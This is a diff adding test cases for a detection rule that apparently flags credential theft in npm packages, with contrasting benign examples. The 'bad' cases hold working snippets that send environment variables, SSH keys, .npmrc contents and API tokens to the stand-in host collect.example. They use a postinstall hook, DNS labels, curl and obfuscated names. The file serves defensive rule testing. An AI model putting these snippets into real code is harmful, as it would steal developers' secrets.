@@ -1,0 +1,89 @@
+import { defineCases } from '../../src/rule.ts';
+
+export default defineCases({
+  bad: [
+    {
+      name: 'the environment, posted when installed',
+      manifest: { scripts: { postinstall: 'node setup.js' } },
+      files: {
+        'index.js': '',
+        'setup.js':
+          "const https = require('https');\nconst body = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collect.example', method: 'POST' });\nreq.write(body);\nreq.end();",
+      },
+    },
+    {
+      name: 'an SSH key, fetched away when loaded',
+      code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst k = readFileSync(homedir() + '/.ssh/id_ed25519', 'utf8');\nawait fetch('https://collect.example/', { method: 'POST', body: Buffer.from(k).toString('base64') });",
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'through helper functions and promises',
+      code: "const axios = require('axios'), fs = require('fs').promises, os = require('os');\nconst collect = async () => ({ npm: await fs.readFile(`${os.homedir()}/.npmrc`, 'utf8') });\nconst pack = (o) => Buffer.from(JSON.stringify(o)).toString('hex');\nasync function run() { const all = await collect(); await axios.post('https://collect.example', { d: pack(all) }) }\nrun().catch(() => {});",
+    },
+    {
+      name: 'in DNS labels',
+      code: "const dns = require('dns');\nconst t = Buffer.from(JSON.stringify({ ...process.env })).toString('hex');\ndns.resolve4(t.slice(0, 60) + '.collect.example', () => {})",
+    },
+    {
+      name: 'collected in one file, sent by another, started by a third',
+      files: {
+        'index.js':
+          "const { all } = require('./lib/collect');\nconst { report } = require('./lib/report');\nreport('start', all());",
+        'lib/collect.js':
+          "const fs = require('fs'), os = require('os');\nexports.all = () => ({ k: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8') });",
+        'lib/report.js':
+          "const https = require('https');\nfunction report(event, data) { const req = https.request('https://collect.example', { method: 'POST' }); req.end(JSON.stringify({ data })) }\nmodule.exports = { report };",
+      },
+    },
+    {
+      name: 'by a child process',
+      code: "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nexecSync('curl -d ' + t + ' https://collect.example')",
+    },
+    {
+      name: 'keys of several vendors',
+      code: "const body = { a: process.env.AWS_SECRET_ACCESS_KEY, b: process.env.NPM_TOKEN, c: process.env.OPENAI_API_KEY };\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(body) })",
+    },
+    {
+      name: 'with names that are computed',
+      code: "const r = require;\nconst h = r(['ht', 'tps'].join(''));\nconst e = process[Buffer.from('ZW52', 'base64').toString()];\nh.get('https://collect.example/?' + new URLSearchParams(e))",
+    },
+  ],
+  ok: [
+    {
+      name: 'one key, sent to its vendor',
+      code: 'const key = process.env.WEATHER_API_KEY;\nexports.get = (city) => fetch(`https://api.weather.example/${city}`, { headers: { authorization: `Bearer ${key}` } })',
+    },
+    {
+      name: 'settings from the environment decide where to call',
+      code: 'const config = load(process.env);\nfunction load(env) { return { url: env.API_URL, token: env.API_TOKEN } }\nfetch(config.url, { headers: { authorization: config.token } })',
+    },
+    {
+      name: 'a child process that inherits the environment',
+      code: "const { spawn } = require('child_process');\nexports.run = () => spawn('node', ['server.js'], { env: { ...process.env, PORT: '1' } })",
+    },
+    {
+      name: 'a manifest of its own, sent for an update check',
+      code: "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync(__dirname + '/package.json', 'utf8'));\nexports.check = () => fetch(`https://registry.example/${pkg.name}/latest`)",
+    },
+    {
+      name: 'a helper that sends, given one key',
+      files: {
+        'index.js':
+          "import { post } from './post.js';\nimport { settings } from './settings.js';\nawait post('/start', settings().url);",
+        'post.js':
+          'export async function post(path, base) { return fetch(base + path, { headers: { key: process.env.WEATHER_KEY } }) }',
+        'settings.js':
+          "export const settings = () => ({ url: process.env.WEATHER_URL ?? 'https://api.weather.example' })",
+      },
+      manifest: { type: 'module' },
+    },
+    {
+      name: 'a proxy from the environment',
+      code: "const https = require('https');\nconst proxy = process.env.HTTPS_PROXY;\nexports.get = (url, cb) => https.get(url, { agent: makeAgent(proxy) }, cb)",
+    },
+    {
+      name: 'a client configured by a schema',
+      code: "const { z } = require('zod');\nconst env = z.object({ KEY: z.string(), URL: z.string() }).parse(process.env);\nexports.post = (b) => fetch(env.URL, { method: 'POST', headers: { key: env.KEY }, body: JSON.stringify(b) })",
+    },
+  ],
+});
